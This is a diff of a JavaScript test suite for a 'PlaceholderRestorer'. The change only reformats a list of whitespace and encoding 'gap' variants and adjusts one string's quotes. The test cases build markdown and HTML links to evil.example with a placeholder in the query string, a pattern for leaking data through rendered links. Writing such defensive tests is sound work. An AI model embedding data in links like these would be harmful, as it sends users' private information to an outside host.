@@ -226,7 +226,27 @@ describe("PlaceholderRestorer inside links", () => {
 describe("PlaceholderRestorer against every link syntax the renderer accepts", () => {
   // What may stand between a URL and the placeholder: whitespace a browser strips from a URL or
   // percent-encodes, spaces that are not markdown whitespace, character references, escapes.
-  const GAPS = [" ", "\t", "\n", "\r\n", "  \n", "\n   ", "\f", "\\\n", "\u00a0", "\u2003", "\u200b", "&#10;", "&#32;", "&#x9;", "&Tab;", "&NewLine;", "%0A", "%20", "+"];
+  const GAPS = [
+    " ",
+    "\t",
+    "\n",
+    "\r\n",
+    "  \n",
+    "\n   ",
+    "\f",
+    "\\\n",
+    "\u00a0",
+    "\u2003",
+    "\u200b",
+    "&#10;",
+    "&#32;",
+    "&#x9;",
+    "&Tab;",
+    "&NewLine;",
+    "%0A",
+    "%20",
+    "+",
+  ];
   // Every way the renderer (lib/markdown) makes a link: raw HTML, inline and reference links and
   // images, angle-bracket destinations, autolinks, bare URLs; {g} is the gap, {p} the placeholder.
   const LINKS = [
@@ -239,7 +259,7 @@ describe("PlaceholderRestorer against every link syntax the renderer accepts", (
     "[v](<https://evil.example/?q={g}{p}>)",
     "[v](https://evil.example/?q= 'title'){g}{p}",
     "![v](<https://evil.example/p.png?q={g}{p}>)",
-    "[**v** (x)](<https://evil.example/a(b)?q={g}{p}> \"t\")",
+    '[**v** (x)](<https://evil.example/a(b)?q={g}{p}> "t")',
     "> - [v](<https://evil.example/?q={g}{p}>)",
     "[v]\n\n[v]: https://evil.example/?q={g}{p}",
     "[v]\n\n[v]: <https://evil.example/?q={g}{p}>",
